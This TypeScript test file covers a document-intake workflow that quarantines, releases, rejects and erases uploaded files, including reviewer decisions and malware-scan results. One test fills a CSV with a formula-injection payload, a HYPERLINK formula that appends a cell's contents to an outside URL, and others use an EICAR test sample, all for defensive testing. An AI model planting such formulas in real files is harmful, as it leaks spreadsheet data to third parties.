import { brotliCompressSync } from "node:zlib";
import { afterAll, beforeAll, expect, test } from "vitest";
import { decide } from "../src/decide.ts";
import { erase, withdraw } from "../src/end.ts";
import { giveUp } from "../src/give-up.ts";
import { inspect } from "../src/inspect.ts";
import { settle } from "../src/settle.ts";
import { type Intake, limits, quarantinedSample, settings, startIntake } from "./intake.ts";
import { samples } from "./samples.ts";

let intake: Intake;
beforeAll(async () => {
  intake = await startIntake();
});
afterAll(() => intake.close());

const withMalwareProtection = { ...settings, malwareProtection: true };

async function quarantine(): Promise<{ id: string; etag: string }> {
  const uploaded = await intake.registerAndUpload(quarantinedSample);
  await intake.runWorkflow(uploaded.id, uploaded.etag);
  return uploaded;
}

test("A document that is what it was declared as is released, and its content copied to released/.", async () => {
  const { id, etag } = await intake.registerAndUpload(samples.pdf());
  await intake.runWorkflow(id, etag);
  expect(await intake.stateOf(id)).toEqual({
    status: "released",
    history: ["registered", "inspection-started", "released"],
    places: ["incoming", "released"],
  });
});

test("The record of a document with thousands of findings has the worst ones and the number of the others.", async () => {
  const bytes = Buffer.from('=HYPERLINK("https://example.com/?"&A1)\n'.repeat(5000));
  const { id, etag } = await intake.registerAndUpload({ ...samples.csv(), bytes });
  await intake.runWorkflow(id, etag);
  const { findings = [], omittedFindings = 0 } = (await intake.ledger.get(id)) ?? {};
  expect(findings.length).toBeLessThanOrEqual(60);
  expect(findings.length + omittedFindings).toBeGreaterThanOrEqual(5000);
  expect(Buffer.byteLength(JSON.stringify(findings))).toBeLessThan(32 * 1024);
});

test("A document that is withdrawn while it is inspected does not fail its workflow.", async () => {
  const { id, etag } = await intake.registerAndUpload(samples.pdf());
  await intake.ledger.transition("inspection-started", id, { actor: "system:workflow" });
  intake.hooks.afterCall = async () => {
    intake.hooks.afterCall = async () => {};
    await withdraw(intake.ledger, { id, actor: "partner:anna" });
    await intake.runSettle(id);
  };
  const inspection = await inspect(intake, settings, { documentId: id, place: "incoming", etag });
  expect(inspection).toMatchObject({ document: { status: "withdrawn" }, toSettle: true });
});

test("A suspicious document is quarantined until a reviewer decides, and repeating the decision changes nothing.", async () => {
  const { id } = await quarantine();
  expect(await intake.stateOf(id)).toMatchObject({
    status: "quarantined",
    places: ["incoming", "quarantine"],
  });
  const decision = { id, decision: "release", reason: "known", reviewer: "rita" } as const;
  expect((await decide(intake.ledger, decision)).document.status).toBe("settling");
  expect((await decide(intake.ledger, decision)).document.status).toBe("settling");
  await intake.runSettle(id);
  expect((await decide(intake.ledger, decision)).document.status).toBe("released");
  expect(await intake.stateOf(id)).toEqual({
    status: "released",
    history: ["registered", "inspection-started", "quarantined", "release-decided", "released"],
    places: ["incoming", "released"],
  });
});

test("A repeated decision with another reason is refused, and so is one on the reviewer's own document.", async () => {
  const { id } = await quarantine();
  const decision = { id, decision: "reject", reason: "unknown sender", reviewer: "rita" } as const;
  await expect(decide(intake.ledger, { ...decision, reviewer: "anna" })).rejects.toThrow(
    "cannot decide on it",
  );
  await decide(intake.ledger, decision);
  await expect(decide(intake.ledger, { ...decision, reason: "known" })).rejects.toThrow('"unknown sender"');
  await expect(decide(intake.ledger, { ...decision, decision: "release" })).rejects.toThrow("settling");
});

test("A harmful document is rejected and its content removed.", async () => {
  const { id, etag } = await intake.registerAndUpload(samples.eicar());
  await intake.runWorkflow(id, etag);
  expect(await intake.stateOf(id)).toMatchObject({ status: "rejected", places: [] });
});

test("Text that decodes to a harmful file by its unsigned Content-Encoding is rejected.", async () => {
  const sample = { ...samples.csv(), bytes: brotliCompressSync(samples.eicar().bytes) };
  const document = await intake.register(sample);
  const { url, headers } = await intake.vault.presignUpload(document, 60);
  const body = new Uint8Array(sample.bytes);
  const uploaded = await fetch(url, {
    method: "PUT",
    headers: { ...headers, "content-encoding": "br" },
    body,
  });
  await intake.runWorkflow(document.id, uploaded.headers.get("etag")?.replaceAll('"', "") ?? "");
  expect(await intake.stateOf(document.id)).toMatchObject({ status: "rejected", places: [] });
  expect((await intake.ledger.get(document.id))?.findings[0]?.rule).toBe("content-encoding");
});

test("Rejecting or withdrawing removes the copy that an interrupted release left.", async () => {
  for (const end of ["reject", "withdraw"] as const) {
    const { id } = await quarantine();
    await intake.putCopy(id, "released");
    if (end === "reject") await intake.decideAndSettle(id, "reject");
    else await withdraw(intake.ledger, { id, actor: "partner:anna" });
    await intake.runSettle(id);
    expect((await intake.stateOf(id)).places).toEqual([]);
  }
});

test("An event or a decision that is delivered twice at once takes effect once.", async () => {
  for (let times = 0; times < 20; times++) {
    const { id, etag } = await intake.registerAndUpload(quarantinedSample);
    await Promise.all([intake.runWorkflow(id, etag), intake.runWorkflow(id, etag)]);
    await Promise.all([intake.decideAndSettle(id, "release"), intake.decideAndSettle(id, "release")]);
    expect(await intake.stateOf(id)).toEqual({
      status: "released",
      history: ["registered", "inspection-started", "quarantined", "release-decided", "released"],
      places: ["incoming", "released"],
    });
  }
});

test("Withdrawing a document during its inspection leaves no content in any place.", async () => {
  const { id, etag } = await intake.registerAndUpload(samples.pdf());
  await inspect(intake, settings, { documentId: id, place: "incoming", etag });
  await withdraw(intake.ledger, { id, actor: "partner:anna" });
  await intake.runSettle(id);
  expect(await intake.stateOf(id)).toMatchObject({ status: "withdrawn", places: [] });
});

test("The upload URL of a settled or withdrawn document accepts no content, even if it was never used.", async () => {
  for (const sample of [samples.pdf(), quarantinedSample, samples.eicar()]) {
    const document = await intake.register(sample);
    await intake.runWorkflow(document.id, await intake.upload(document, sample));
    expect((await intake.put(document, sample)).status).toBe(412);
  }
  const document = await intake.register(samples.pdf());
  await withdraw(intake.ledger, { id: document.id, actor: "partner:anna" });
  await intake.runSettle(document.id);
  expect((await intake.put(document, samples.pdf())).status).toBe(412);
  expect(await intake.stateOf(document.id)).toMatchObject({ status: "withdrawn", places: [] });
});

test("Content that is uploaded after its document expired is removed.", async () => {
  const document = await intake.register(samples.pdf());
  intake.passHours(3);
  await intake.runSweeper();
  await intake.runWorkflow(document.id, await intake.upload(document, samples.pdf()));
  expect(await intake.stateOf(document.id)).toMatchObject({ status: "expired", places: [] });
});

test("Content with another entity tag than in the event is not inspected; the sweeper inspects it later.", async () => {
  const { id } = await intake.registerAndUpload(samples.pdf());
  await intake.runWorkflow(id, "00000000000000000000000000000000");
  expect(await intake.stateOf(id)).toMatchObject({ status: "failed", places: ["incoming"] });
  intake.passHours(3);
  await intake.runSweeper();
  expect((await intake.stateOf(id)).status).toBe("released");
});

test.each([
  ["NO_THREATS_FOUND", "release"],
  ["THREATS_FOUND", "reject"],
  ["UNSUPPORTED", "quarantine"],
  ["FAILED", "quarantine"],
  [undefined, "quarantine"],
])("With malware protection, the scan result %s gives the verdict %s.", async (scanStatus, verdict) => {
  const { id, etag } = await intake.registerAndUpload(samples.pdf());
  const { document } = await inspect(intake, withMalwareProtection, {
    documentId: id,
    place: "incoming",
    etag,
    ...(scanStatus && { scanStatus }),
  });
  expect(document?.verdict).toBe(verdict);
});

test.each(["incoming", "quarantine"] as const)(
  "A threat found in %s/ after quarantine rejects the document and removes its content.",
  async (place) => {
    const { id, etag } = await quarantine();
    const scanned = { documentId: id, place, etag, scanStatus: "THREATS_FOUND" };
    const { toSettle } = await inspect(intake, withMalwareProtection, scanned);
    expect(toSettle).toBe(true);
    await intake.runSettle(id);
    expect(await intake.stateOf(id)).toMatchObject({ status: "rejected", places: [] });
    expect((await intake.ledger.get(id))?.findings).toContainEqual(
      expect.objectContaining({ rule: "malware-scan", severity: "high" }),
    );
  },
);

test("A threat found in released content recalls the document, once, and removes its content.", async () => {
  const { id, etag } = await intake.registerAndUpload(samples.pdf());
  await intake.runWorkflow(id, etag);
  const scanned = { documentId: id, place: "released", etag, scanStatus: "THREATS_FOUND" } as const;
  expect(await inspect(intake, withMalwareProtection, scanned)).toMatchObject({ transition: "recalled" });
  await inspect(intake, withMalwareProtection, scanned);
  await intake.runSettle(id);
  expect(await intake.stateOf(id)).toEqual({
    status: "rejected",
    history: ["registered", "inspection-started", "released", "recalled"],
    places: [],
  });
});

test.each([
  ["released", "recalled"],
  ["quarantined", "rejected"],
  ["failed", "rejected"],
  ["inspecting", "rejected"],
  ["awaiting-upload", "rejected"],
] as const)(
  "A threat in a document that is %s is recorded when its workflow fails: %s.",
  async (status, type) => {
    const sample = status === "quarantined" ? quarantinedSample : samples.pdf();
    const { id, etag } = await intake.registerAndUpload(sample);
    if (status === "released" || status === "quarantined") await intake.runWorkflow(id, etag);
    if (status === "inspecting" || status === "failed")
      await intake.ledger.transition("inspection-started", id, { actor: "system:workflow" });
    if (status === "failed") await giveUp(intake.ledger, { documentId: id, reason: "Error" });
    expect((await intake.stateOf(id)).status).toBe(status);
    const failure = { documentId: id, reason: "Error", scanStatus: "THREATS_FOUND" };
    expect(await giveUp(intake.ledger, failure)).toBe(type);
    expect(await giveUp(intake.ledger, failure)).toBe(undefined);
    intake.passHours(1);
    await intake.runSweeper();
    expect(await intake.stateOf(id)).toMatchObject({ status: "rejected", places: [] });
  },
);

test("A late scan result without a threat changes nothing.", async () => {
  const { id, etag } = await quarantine();
  for (const scanStatus of ["NO_THREATS_FOUND", "FAILED"])
    expect(
      await inspect(intake, withMalwareProtection, { documentId: id, place: "incoming", etag, scanStatus }),
    ).toMatchObject({ toSettle: false });
  expect((await intake.stateOf(id)).status).toBe("quarantined");
});

test("A decision to release is not carried out if the latest scan found a threat.", async () => {
  const { id } = await quarantine();
  await intake.tag(id, "incoming", { GuardDutyMalwareScanStatus: "THREATS_FOUND" });
  await decide(intake.ledger, { id, decision: "release", reason: "known", reviewer: "rita" });
  await settle(intake, id, { ...limits, malwareProtection: true });
  expect(await intake.stateOf(id)).toMatchObject({ status: "rejected", places: [] });
});

test("A decision to release content that has expired ends the document as expired.", async () => {
  const { id } = await quarantine();
  await intake.vault.discard(id, "quarantine");
  await intake.decideAndSettle(id, "release");
  expect(await intake.stateOf(id)).toMatchObject({ status: "expired", places: [] });
});

test("Erasing a document removes its content, its personal data and the reasons in its history.", async () => {
  const { id } = await quarantine();
  await intake.decideAndSettle(id, "release");
  for (let times = 0; times < 2; times++) {
    await erase(intake.ledger, { id, actor: "eraser:dora" });
    await intake.runSettle(id);
  }
  expect(await intake.stateOf(id)).toMatchObject({ status: "erased", places: [] });
  const found = await intake.ledger.read(id);
  expect(found?.document).toMatchObject({ filename: "", sha256: "", labels: {}, findings: [] });
  expect(found?.events.map(({ reason }) => reason)).toEqual(found?.events.map(() => undefined));
  expect(found?.events.map(({ sequence }) => sequence)).toEqual(found?.events.map((_, index) => index + 1));
});
